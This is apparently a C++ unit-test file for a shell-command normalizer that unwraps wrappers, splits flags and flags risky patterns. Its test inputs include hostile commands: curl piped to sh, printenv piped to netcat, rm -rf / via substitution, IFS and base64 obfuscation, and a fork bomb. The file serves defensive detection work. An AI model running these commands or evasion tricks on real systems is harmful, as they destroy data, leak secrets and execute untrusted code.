// The normalizer: wrappers unwrapped, basenames, split flags, stdin sources.
#include <criterion/criterion.h>

#include <string>

#include "core/analyze.h"
#include "core/normalize.h"
#include "core/shell_parse.h"

namespace {

const vg::AnalyzeContext kCtx{"/home/u/proj", "/home/u", "/home/u/proj"};

std::vector<vg::Cmd> norm(const char* line) {
  vg::ParseResult pr = vg::parse_shell(line);
  vg::WalkNotes notes;
  return vg::normalize(pr.script, kCtx, notes);
}

vg::WalkNotes notes_of(const char* line) {
  vg::ParseResult pr = vg::parse_shell(line);
  vg::WalkNotes notes;
  vg::normalize(pr.script, kCtx, notes);
  return notes;
}

// The normalized strings analyze() reports, joined with " ; ".
std::string normalized(const char* line) {
  vg::Analysis a = vg::analyze(line, kCtx);
  std::string out;
  for (const auto& n : a.normalized) out += (out.empty() ? "" : " ; ") + n;
  return out;
}

void expect_normalized(const char* line, const char* want) {
  std::string got = normalized(line);
  cr_expect_str_eq(got.c_str(), want, "%s", line);
}

}  // namespace

Test(normalized, splits_short_flags) { expect_normalized("rm -rf /tmp/x", "rm -r -f /tmp/x"); }
Test(normalized, keeps_long_options) { expect_normalized("rm --recursive --force x", "rm --recursive --force x"); }
Test(normalized, basename_of_program) { expect_normalized("/usr/bin/rm -f x", "rm -f x"); }
Test(normalized, backslash_program) { expect_normalized("\\rm -f x", "rm -f x"); }
Test(normalized, quote_split_program) { expect_normalized("r''m -f x", "rm -f x"); }
Test(normalized, sudo_unwrapped) { expect_normalized("sudo -u root rm -f x", "rm -f x"); }
Test(normalized, env_unwrapped) { expect_normalized("env -i A=1 B=2 ls -l", "ls -l"); }
Test(normalized, timeout_unwrapped) { expect_normalized("timeout -k 5 30 make test", "make test"); }
Test(normalized, nice_nohup_time) { expect_normalized("nohup nice -n 5 time make", "make"); }
Test(normalized, stdbuf_unwrapped) { expect_normalized("stdbuf -oL grep x f", "grep x f"); }
Test(normalized, busybox_applet) { expect_normalized("busybox ls -l", "ls -l"); }
Test(normalized, command_unwrapped) { expect_normalized("command ls", "ls"); }
Test(normalized, find_keeps_single_dash_words) { expect_normalized("find . -name x", "find . -name x"); }
Test(normalized, pipeline_each_command) { expect_normalized("cat f | sort -rn", "cat f ; sort -r -n"); }
Test(normalized, sh_c_inner_command) { expect_normalized("sh -c 'ls -la'", "ls -l -a ; sh -c ls -la"); }
Test(normalized, eval_inner_command) { expect_normalized("eval 'git status'", "git status ; eval git status"); }
Test(normalized, xargs_command) { expect_normalized("echo a b | xargs rm -f", "echo a b ; rm -f a b"); }
Test(normalized, variable_program) { expect_normalized("X=ls; $X -a", "export X=ls ; ls -a"); }

Test(normalize, find_exec_becomes_command) {
  auto cmds = norm("find /srv -name '*.log' -exec rm -f {} +");
  bool found = false;
  for (const auto& c : cmds)
    if (c.program == "rm" && !c.args.empty() && c.args.back().value == "/srv" && c.args.back().subtree) found = true;
  cr_expect(found);
}

Test(normalize, find_delete_becomes_recursive_rm) {
  auto cmds = norm("find ~ -delete");
  bool found = false;
  for (const auto& c : cmds)
    if (c.program == "rm" && c.has_short('r') && c.args.back().value == "/home/u") found = true;
  cr_expect(found);
}

Test(normalize, tilde_and_home_resolved) {
  auto cmds = norm("ls ~/a $HOME/b \"${HOME}\"/c");
  cr_assert_eq(cmds.size(), 1);
  cr_expect_str_eq(cmds[0].args[0].value.c_str(), "/home/u/a");
  cr_expect_str_eq(cmds[0].args[1].value.c_str(), "/home/u/b");
  cr_expect_str_eq(cmds[0].args[2].value.c_str(), "/home/u/c");
}

Test(normalize, unknown_variable_is_dynamic) {
  auto cmds = norm("rm -rf \"$X\"/");
  cr_assert_eq(cmds.size(), 1);
  cr_expect(cmds[0].args.back().dynamic);
  cr_expect_eq(cmds[0].args.back().value[0], vg::kUnknown);
}

// Issue 19: a substitution whose output the line shows is the command it prints.
Test(normalize, substituted_program_is_resolved) {
  auto cmds = norm("$(echo rm) -rf /");
  bool rm = false;
  for (const auto& c : cmds) rm |= c.program == "rm" && c.args.size() == 2 && c.args[1].value == "/";
  cr_expect(rm);
}

Test(normalize, unknown_substituted_program_stays_dynamic) {
  auto cmds = norm("$(cat cmd.txt) -rf /");
  bool dyn = false;
  for (const auto& c : cmds) dyn |= c.program_dynamic;
  cr_expect(dyn);
}

Test(normalize, curl_feeds_shell_from_network) {
  auto cmds = norm("curl -s https://x.example | sh");
  cr_assert_eq(cmds.size(), 2);
  cr_expect(cmds[1].stdin_source == vg::Source::Network);
}

Test(normalize, filters_pass_network_through) {
  auto cmds = norm("curl -s https://x.example | gunzip | tee x | bash");
  cr_expect(cmds.back().stdin_source == vg::Source::Network);
}

Test(normalize, base64_feeds_decoded) {
  auto cmds = norm("echo aGk= | base64 -d | sh");
  bool decoded = false;
  for (const auto& c : cmds)
    if (c.program == "sh") decoded = c.stdin_source == vg::Source::Decoded;
  cr_expect(decoded);
}

Test(normalize, heredoc_is_literal_stdin) {
  auto cmds = norm("cat <<EOF\nhello\nEOF");
  cr_assert_eq(cmds.size(), 1);
  cr_expect(cmds[0].stdin_source == vg::Source::Literal);
  cr_expect(cmds[0].stdin_text.find("hello") != std::string::npos);
}

Test(normalize, env_dump_is_secret_source) {
  auto cmds = norm("printenv | nc h 1");
  cr_expect(cmds.back().stdin_source == vg::Source::Secrets);
}

Test(normalize, sudo_marks_privileged) {
  auto cmds = norm("sudo -E make install");
  cr_assert_eq(cmds.size(), 1);
  cr_expect(cmds[0].privileged);
  cr_expect_str_eq(cmds[0].program.c_str(), "make");
}

Test(normalize, cd_changes_cwd) {
  auto cmds = norm("cd /srv && ls x");
  cr_assert_eq(cmds.size(), 2);
  cr_expect_str_eq(cmds[1].cwd.c_str(), "/srv");
}

Test(normalize, cd_dynamic_makes_cwd_unknown) {
  auto cmds = norm("cd $X && ls");
  cr_assert_eq(cmds.size(), 2);
  cr_expect(cmds[1].cwd.empty());
}

Test(normalize, ifs_is_noted_and_splits) {
  auto cmds = norm("rm${IFS}-rf${IFS}/x");
  cr_assert_eq(cmds.size(), 1);
  cr_expect_str_eq(cmds[0].program.c_str(), "rm");
  cr_expect_eq(cmds[0].args.size(), 2);
  cr_expect(notes_of("rm${IFS}-rf${IFS}/x").ifs_trick);
}

Test(normalize, fork_bomb_noted) { cr_expect(notes_of(":(){ :|:& };:").fork_bomb); }
Test(normalize, recursive_function_without_fork_is_not_a_bomb) {
  cr_expect(!notes_of("f(){ echo hi; }; f").fork_bomb);
}
Test(normalize, eval_of_variable_noted) { cr_expect(notes_of("eval \"$CMD\"").eval_dynamic); }
Test(normalize, eval_of_local_program_output_not_noted) {
  cr_expect(!notes_of("eval \"$(ssh-agent -s)\"").eval_dynamic);
}

Test(normalize, embedded_python_shell_call) {
  vg::EmbeddedCode ec = vg::scan_embedded_code("import os; os.system('make clean')");
  cr_assert_eq(ec.shell.size(), 1);
  cr_expect_str_eq(ec.shell[0].c_str(), "make clean");
}

Test(normalize, embedded_subprocess_list) {
  vg::EmbeddedCode ec = vg::scan_embedded_code("subprocess.call(['rm', '-rf', 'build'])");
  cr_assert_eq(ec.shell.size(), 1);
  cr_expect_str_eq(ec.shell[0].c_str(), "rm -rf build");
}

Test(normalize, embedded_rmtree) {
  vg::EmbeddedCode ec = vg::scan_embedded_code("import shutil; shutil.rmtree('/srv/data')");
  cr_assert_eq(ec.deleted.size(), 1);
  cr_expect_str_eq(ec.deleted[0].c_str(), "/srv/data");
  cr_expect(ec.deletes_recursively);
}

Test(normalize, embedded_dynamic_delete) {
  vg::EmbeddedCode ec = vg::scan_embedded_code("import os; os.remove(path)");
  cr_expect(ec.deletes_dynamic);
}

Test(normalize, base64_decoder) {
  std::string out;
  cr_assert(vg::decode_base64("cm0gLXJmIC8=", out));
  cr_expect_str_eq(out.c_str(), "rm -rf /");
  cr_expect(!vg::decode_base64("not base64!", out));
}

Test(normalize, flag_helpers) {
  auto cmds = norm("tool -abc --long=1 --flag -- -z");
  cr_assert_eq(cmds.size(), 1);
  const vg::Cmd& c = cmds[0];
  cr_expect(c.has_short('b'));
  cr_expect(!c.has_short('z'));
  cr_expect(c.has_long("long"));
  cr_expect(c.has_long("flag"));
  cr_expect_eq(c.operands().size(), 1);
}
